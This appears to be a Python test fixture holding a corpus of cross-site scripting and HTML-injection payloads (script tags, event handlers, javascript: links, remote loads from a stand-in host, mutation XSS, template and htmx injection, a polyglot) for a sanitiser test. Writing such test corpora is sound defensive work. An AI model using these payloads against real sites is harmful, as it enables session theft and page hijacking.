"""Attempts to make a page run, load or become something by what stands in a text.

Of the kinds that OWASP's and PortSwigger's lists name. Each that runs calls xss(); each that only changes the page has
"xss" somewhere in what it adds, which is how test_xss.py finds it.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>xss()</script>",
    "<ScRiPt>xss()</sCrIpT>",
    "<script src=https://xss.example/x.js></script>",
    "<script type=module>xss()</script>",
    "</script><script>xss()</script>",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</style><script>xss()</script>",
    "--><script>xss()</script>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<script/x>xss()</script/x>",
    "<script\x0c>xss()</script>",
)
HANDLERS = (
    "<img src=x onerror=xss()>",
    '"><img src=x onerror=xss()>',
    "'><img src=x onerror=xss()>",
    '" onfocus=xss() autofocus x="',
    "' onfocus=xss() autofocus x='",
    '" onmouseover="xss()" class="xss',
    "<svg onload=xss()>",
    "<svg/onload=xss()//",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><script>xss()</script></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='xss()'/>#x\"/></svg>",
    "<details open ontoggle=xss()>xss</details>",
    "<input onfocus=xss() autofocus>",
    "<body onload=xss()>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    "<marquee onstart=xss()>xss</marquee>",
    "<xss-x onanimationend=xss() style=animation:x>",
    "<style>@keyframes x{}</style><b style='animation:x' onanimationstart=xss()>xss</b>",
    "<img src=`x` onerror=`xss()`>",
    "<a onmouseenter=xss() tabindex=1 autofocus>xss</a>",
)
ADDRESSES = (
    "<a href=javascript:xss()>xss</a>",
    "[xss](javascript:xss())",
    "[xss](JaVaScRiPt:xss())",
    "[xss](java\tscript:xss())",
    "[xss](&#106;avascript:xss())",
    "[xss](<javascript:xss()>)",
    "[xss]: javascript:xss()\n\n[xss]",
    "<javascript:xss()>",
    "[xss](data:text/html,<script>xss()</script>)",
    "![xss](data:image/svg+xml,<svg onload=xss()>)",
    "[xss](vbscript:xss())",
    "![xss](https://xss.example/pixel.png)",
    "![xss](//xss.example/pixel.png)",
    '![xss](x "onerror=xss()")',
    '[xss](https://xss.example/ "\\" onclick=xss() x=")',
    "[xss](/logout/)",
    "[xss](//xss.example/)",
    "[![xss](x)](javascript:xss())",
    "<iframe src=javascript:xss()></iframe>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=https://xss.example/x>",
    "<form action=https://xss.example/><button>xss</button></form>",
    "<button form=answers formaction=https://xss.example/>xss</button>",
    "<base href=https://xss.example/>",
    "<meta http-equiv=refresh content='0;url=https://xss.example/'>",
    "<link rel=stylesheet href=https://xss.example/x.css>",
    "<link rel=prefetch href=https://xss.example/x>",
)
STYLES = (
    "<style>body{background:url(https://xss.example/x)}</style>",
    "<p style='background:url(https://xss.example/x)'>xss</p>",
    "<style>@import 'https://xss.example/x.css';</style>",
    '" style="position:fixed;inset:0;background:url(https://xss.example/x)" x="xss',
    "}</style><style>*{display:none}",
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=xss()>'>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=xss() src=1>'>",
    "<!-- --!><img src=x onerror=xss()> -->",
    "<!--<img src='--><img src=x onerror=xss()>'>",
    "<![CDATA[<script>xss()</script>]]>",
    "<table><td><svg><desc><td><img src=x onerror=xss()>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "`<img src=x onerror=xss()>`",
    "```html\n<script>xss()</script>\n```\n</code></pre><script>xss()</script>",
    "| <img src=x onerror=xss()> |\n|---|\n| <script>xss()</script> |",
)
OURS = (
    "<div hx-get=/xss hx-trigger=load>xss</div>",
    "<b hx-on:load='xss()' hx-on::after-settle='xss()'>xss</b>",
    "<b data-hx-get=/xss data-hx-trigger=load>xss</b>",
    '" hx-get="/xss" hx-trigger="load',
    "<main id=item class=xss></main><form id=answers action=/xss></form>",
    "</fieldset></form><form method=post action=/xss><input name=key value=xss>",
    "<input name=key value=xss form=answers><a id=submit href=/xss>xss</a>",
    "{{ 7|add:42 }}xss{% debug %}{{ settings.SECRET_KEY }}",
    "{n} {m} %(number)s ${xss()} #{xss()} <%= xss() %>",
    '<script id=rating-words type=application/json>{"xss": 1}</script>',
)
UNICODE = (
    "\u202e<script>xss()</script>\u202c",
    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "<\u200bscript>xss()</script>",
    "\u2028<img src=x onerror=xss()>\u2029",
    "<img src=x onerror=\\u0078ss()>",
    "%3Cscript%3Exss()%3C/script%3E",
    "\ufeff<svg/onload=xss()>",
)
# The one that leaves most contexts at once (0xSobky's polyglot, its call replaced).
POLYGLOT = "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=xss() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss()//>\\x3e"  # noqa: E501

CORPUS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *STYLES, *MUTATIONS, *OURS, *UNICODE, POLYGLOT)
